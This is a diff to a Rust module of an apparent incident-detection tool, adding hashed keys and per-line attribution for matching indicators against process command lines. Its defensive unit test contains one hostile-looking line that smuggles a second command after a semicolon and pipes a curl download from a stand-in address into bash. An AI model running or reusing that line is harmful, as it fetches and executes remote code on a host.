@@ -12,12 +12,14 @@ use crate::incident::Echo;
 use crate::metadata;
 use crate::request::Indicator;
 
-use super::sought::{Form, Sought, address_of, host_form, host_of, words};
+use super::sought::{Form, Sought, address_key, address_of, host_form, host_key, host_of, path_key, word_key, words};
 
 /// Most words of one finding's command lines that are compared; a command line is bounded at 4 KiB, its lineage at 16 nodes.
 const WORDS_MAX: usize = 1024;
 /// Shortest URL that is looked for inside longer words.
 const URL_WITHIN_WORD: usize = 10;
+/// Ends of one word that are keyed as paths: no path that is looked for lies deeper.
+const PATHS_MAX: usize = 32;
 /// Shortest path that is looked for: `/x` ends half of all words.
 const PATH_MIN: usize = 4;
 
@@ -30,8 +32,10 @@ pub(super) struct Surface {
     addresses: BTreeMap<IpAddr, String>,
     /// Host names named or looked up, with where.
     hosts: BTreeMap<String, String>,
-    /// The first command line, for the sentence.
-    shown: String,
+    /// The command lines, each with the number of words before it: for the sentence.
+    lines: Vec<(usize, String)>,
+    /// Keys of everything above, sorted: what is not among them need not be compared.
+    keys: Vec<u64>,
 }
 
 impl Surface {
@@ -47,7 +51,31 @@ impl Surface {
             }
             surface.read(&node.command_line);
         }
-        surface
+        surface.keyed()
+    }
+
+    /// With its keys, once all is in.
+    fn keyed(mut self) -> Self {
+        let mut keys: Vec<u64> = self.addresses.keys().map(|address| address_key(*address)).collect();
+        for host in self.hosts.keys() {
+            let ends = host.match_indices('.').filter_map(|(dot, _)| host.get(dot + 1..));
+            keys.extend(ends.chain([host.as_str()]).map(host_key));
+        }
+        for word in &self.words {
+            keys.push(word_key(word));
+            keys.extend(
+                word.match_indices('/').filter_map(|(slash, _)| word.get(slash..)).take(PATHS_MAX).map(path_key),
+            );
+        }
+        keys.sort_unstable();
+        keys.dedup();
+        self.keys = keys;
+        self
+    }
+
+    /// Everything that a request could name and find here.
+    pub(super) fn keys(&self) -> &[u64] {
+        &self.keys
     }
 
     /// Adds what a metadata finding reached.
@@ -56,7 +84,7 @@ impl Surface {
             self.addresses.insert(metadata::canonical(endpoint.ip()), format!("the endpoint {endpoint}"));
             self.words.extend(role.iter().map(|role| role.to_lowercase()));
         }
-        self
+        self.keyed()
     }
 
     /// Adds a peer and the name it was reached by.
@@ -65,13 +93,11 @@ impl Surface {
         if let Some(name) = name {
             self.hosts.insert(host_form(name), format!("the name {name}"));
         }
-        self
+        self.keyed()
     }
 
     fn read(&mut self, command_line: &str) {
-        if self.shown.is_empty() {
-            command_line.clone_into(&mut self.shown);
-        }
+        self.lines.push((self.words.len(), command_line.to_owned()));
         for word in words(command_line) {
             if self.words.len() == WORDS_MAX {
                 return;
@@ -89,7 +115,8 @@ impl Surface {
 
     /// What of `sought` reappears here, in the same order.
     pub(super) fn echoes(&self, sought: &[Sought]) -> Vec<Echo> {
-        sought.iter().filter_map(|sought| self.echo(sought)).collect()
+        let may = |sought: &&Sought| sought.key.is_none_or(|key| self.keys.binary_search(&key).is_ok());
+        sought.iter().filter(may).filter_map(|sought| self.echo(sought)).collect()
     }
 
     fn echo(&self, sought: &Sought) -> Option<Echo> {
@@ -107,6 +134,12 @@ impl Surface {
         Some(Echo { indicator, seen_in: seen_in.to_owned(), distinctive })
     }
 
+    /// The command line that the word at `place` stands in; what no command line said came with the finding itself.
+    fn line(&self, place: usize) -> &str {
+        let before = self.lines.partition_point(|(first, _)| *first <= place);
+        before.checked_sub(1).and_then(|line| self.lines.get(line)).map_or("", |(_, line)| line)
+    }
+
     /// Where `form` reappears, and whether that is distinctive.
     fn find(&self, form: &Form) -> Option<(&str, bool)> {
         match form {
@@ -119,20 +152,23 @@ impl Surface {
             }
             Form::Url { url, .. } => {
                 let within = |word: &String| word == url || (url.len() >= URL_WITHIN_WORD && word.contains(url));
-                self.words.iter().any(within).then_some((self.shown.as_str(), true))
+                let place = self.words.iter().position(within)?;
+                Some((self.line(place), true))
             }
             Form::Command { telling, distinctive } => {
-                let mut rest = self.words.iter();
-                let in_order = telling.iter().all(|word| rest.any(|seen| seen == word));
-                in_order.then_some((&self.shown, *distinctive))
+                let mut rest = self.words.iter().enumerate();
+                let places = telling.iter().map(|word| rest.find(|(_, seen)| *seen == word).map(|(place, _)| place));
+                let places = places.collect::<Option<Vec<usize>>>()?;
+                Some((self.line(*places.first()?), *distinctive))
             }
             Form::CommonCommand { words } => {
-                let together = !words.is_empty() && self.words.windows(words.len()).any(|window| window == words);
-                together.then_some((&self.shown, false))
+                let mut windows = self.words.windows(words.len().max(1));
+                let place = windows.position(|window| window == words)?;
+                Some((self.line(place), false))
             }
             Form::Path { path, distinctive } => {
-                let found = path.len() >= PATH_MIN && self.words.iter().any(|word| word.ends_with(path));
-                found.then_some((&self.shown, *distinctive))
+                let place = self.words.iter().position(|word| path.len() >= PATH_MIN && word.ends_with(path))?;
+                Some((self.line(place), *distinctive))
             }
         }
     }
@@ -145,13 +181,29 @@ mod tests {
     fn surface(command_line: &str) -> Surface {
         let mut surface = Surface::default();
         surface.read(command_line);
-        surface
+        surface.keyed()
+    }
+
+    #[test]
+    fn the_process_that_holds_it_is_the_one_that_is_named() {
+        let mut surface = surface("bash");
+        surface.read("sh -c ping 127.0.0.1;curl http://203.0.113.7/x|bash");
+        let surface = surface.keyed();
+        let check = |indicator: Indicator| {
+            let echo = surface.echo(&Sought::of(&indicator)).expect("an echo");
+            assert!(echo.seen_in.starts_with("sh -c"), "{indicator:?}: {}", echo.seen_in);
+        };
+        check(Indicator::Command("curl http://203.0.113.7/x".into()));
+        check(Indicator::Url("http://203.0.113.7/x".into()));
+        check(Indicator::Address("203.0.113.7".parse().expect("address")));
+        check(Indicator::Command("ping".into()));
     }
 
     #[test]
     fn what_reappears_is_found_and_weighed() {
         let check = |indicator: Indicator, command_line: &str, expected: Option<bool>| {
-            let echo = surface(command_line).echo(&Sought::of(&indicator)).map(|echo| echo.distinctive);
+            let echoes = surface(command_line).echoes(&[Sought::of(&indicator)]);
+            let echo = echoes.first().map(|echo| echo.distinctive);
             assert_eq!(echo, expected, "{indicator:?} in {command_line}");
         };
         let address = |text: &str| Indicator::Address(text.parse().expect("address"));
